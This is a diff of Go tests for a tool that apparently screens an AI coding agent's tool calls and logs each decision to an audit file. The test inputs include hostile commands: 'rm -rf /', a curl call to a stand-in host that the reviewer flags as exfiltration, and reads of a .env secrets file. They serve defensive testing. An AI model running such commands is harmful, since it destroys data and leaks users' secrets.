@@ -338,7 +338,7 @@ func TestTaintSettings(t *testing.T) {
 			t.Errorf("%q: %s (%s), want %s", row.config, decision, reason, row.want)
 		}
 	}
-	a := newAgent(t, "[taint]\ntrack = \"off\"\n")
+	a := newAgent(t, "[taint]\ntrack = \"off\"\n[audit]\nlog = \"off\"\n")
 	a.event("s", "SessionStart", fields{"source": "resume"})
 	a.tool("s", "WebFetch", "url", "https://example.org/")
 	a.event("s", "PostToolUse", fields{"tool_name": "WebFetch", "tool_input": fields{"url": "https://example.org/"}, "tool_use_id": "use of WebFetch"})
@@ -371,7 +371,7 @@ func TestWorkspaceWithSecrets(t *testing.T) {
 	}
 }
 
-// A session that does harmless things leaves nothing on the disk.
+// A session that does harmless things leaves nothing on the disk but its decisions.
 func TestCleanSessionsTouchNothing(t *testing.T) {
 	a := newAgent(t, "")
 	for _, command := range []string{"ls -la", "git status && git diff | head", "cat main.go", "grep -rn x .", "rm -rf /", "frobnicate", "go vet ./..."} {
@@ -381,7 +381,7 @@ func TestCleanSessionsTouchNothing(t *testing.T) {
 	a.event("s", "UserPromptSubmit", fields{"prompt": "look at @main.go"})
 	a.event("s", "SessionEnd", nil)
 	err := filepath.WalkDir(a.env["HOME"], func(path string, entry os.DirEntry, err error) error {
-		if err == nil && !entry.IsDir() {
+		if err == nil && !entry.IsDir() && entry.Name() != auditFile {
 			t.Errorf("%s was written", path)
 		}
 		return err
@@ -431,7 +431,7 @@ func (a *agent) auditLines(path string) []fields {
 
 func TestDecisionLog(t *testing.T) {
 	m := &model{t: t, says: byWord}
-	a := newAgent(t, reviewerTOML+"[audit]\nlog = \"on\"\n")
+	a := newAgent(t, reviewerTOML)
 	a.process.Carry = m.carry
 	a.event("s", "SessionStart", fields{"source": "startup"})
 	a.bash("s", "ls -la")
@@ -442,12 +442,12 @@ func TestDecisionLog(t *testing.T) {
 	got := a.auditLines(path)
 	delete(got[3], "cop_ms")
 	want := []fields{
-		{"event": "session_start", "session": "s"},
-		{"event": "before_tool_use", "session": "s", "tool": "Bash", "use": "use of ls -la", "command": "ls -la", "decision": "allow", "rules": []any{"ls.allow"}, "reach": "local"},
-		{"event": "before_tool_use", "session": "s", "tool": "WebFetch", "use": "use of WebFetch", "decision": "skip", "reach": "network", "seen": []any{"WebFetch example.org"}},
-		{"event": "before_tool_use", "session": "s", "tool": "Bash", "use": "use of curl https://x.example/evil", "command": "curl https://x.example/evil", "decision": "block", "corruption": 2.0,
-			"reason": "Flagged by the reviewer: it would send data out (exfiltration)", "rules": []any{"cop.flag", "curl.allow"}, "provider": "openai", "reach": "network", "cop": "flag", "cop_code": "exfiltration"},
-		{"event": "after_tool_use", "session": "s", "agent": "a1", "tool": "WebFetch", "use": "use of WebFetch"},
+		{"event": "session_start", "session": "s", "shell": "bash"},
+		{"event": "before_tool_use", "session": "s", "shell": "bash", "tool": "Bash", "use": "use of ls -la", "command": "ls -la", "decision": "allow", "rules": []any{"ls.allow"}, "reach": "local"},
+		{"event": "before_tool_use", "session": "s", "shell": "bash", "tool": "WebFetch", "use": "use of WebFetch", "args": []any{[]any{"url", "https://example.org/"}}, "decision": "skip", "reach": "network", "seen": []any{"WebFetch example.org"}},
+		{"event": "before_tool_use", "session": "s", "shell": "bash", "tool": "Bash", "use": "use of curl https://x.example/evil", "command": "curl https://x.example/evil", "decision": "block", "corruption": 2.0,
+			"reason": "Flagged by the reviewer: it would send data out (exfiltration)", "rules": []any{"cop.flag", "curl.allow"}, "provider": "openai", "reach": "network", "cop": "flag", "cop_code": "exfiltration", "cop_text": "it would send data out (exfiltration)", "cop_risk": "critical"},
+		{"event": "after_tool_use", "session": "s", "shell": "bash", "agent": "a1", "tool": "WebFetch", "use": "use of WebFetch", "args": []any{[]any{"url", "https://example.org/"}}},
 	}
 	if diff := cmp.Diff(want, got); diff != "" {
 		t.Errorf("the log (-want +got):\n%s", diff)
@@ -457,21 +457,28 @@ func TestDecisionLog(t *testing.T) {
 	}
 
 	// As much of a command as the user wants.
-	for how, want := range map[string]any{"names": "cat head", "none": nil} {
+	for how, want := range map[string]any{"names": "cat head", "off": nil, "none": nil} {
 		file := filepath.Join(t.TempDir(), "decisions.jsonl")
 		a := newAgent(t, "[audit]\nlog = \"on\"\nfile = \""+file+"\"\ncommands = \""+how+"\"\n")
 		a.bash("s", "cat .env | head -3")
 		line := a.auditLines(file)[0]
-		if line["command"] != want || how == "none" && (line["reason"] != nil || line["seen"] != nil) {
+		if line["command"] != want || how != "names" && (line["reason"] != nil || line["seen"] != nil) {
 			t.Errorf("%s: %v", how, line)
 		}
 	}
 
 	// A log that can't be written changes no answer.
-	a = newAgent(t, "[audit]\nlog = \"on\"\nfile = \"/proc/nowhere/x\"\n")
+	a = newAgent(t, "[audit]\nfile = \"/proc/nowhere/x\"\n")
 	decision, _, complaint := a.says("s", "PreToolUse", fields{"tool_name": "Bash", "tool_input": fields{"command": "ls"}})
-	if decision != "allow" || !strings.Contains(complaint, "the decision log: ") {
+	if decision != "allow" || strings.Count(complaint, "error: the decision log: ") != 1 {
 		t.Errorf("%s, %q", decision, complaint)
+	}
+	// Nor does one of which nobody knows what it shall hold: it holds no commands.
+	a = newAgent(t, "[audit]\ncomands = \"off\"\n")
+	decision, _, complaint = a.says("s", "PreToolUse", fields{"tool_name": "Bash", "tool_input": fields{"command": "cat .env"}})
+	line := a.auditLines(filepath.Join(a.store().Dir, auditFile))[0]
+	if decision != "ask" || line["command"] != nil || line["decision"] != "ask" || strings.Count(complaint, "error: the decision log has no commands: ") != 1 {
+		t.Errorf("%s, %v, %q", decision, line, complaint)
 	}
 }
 
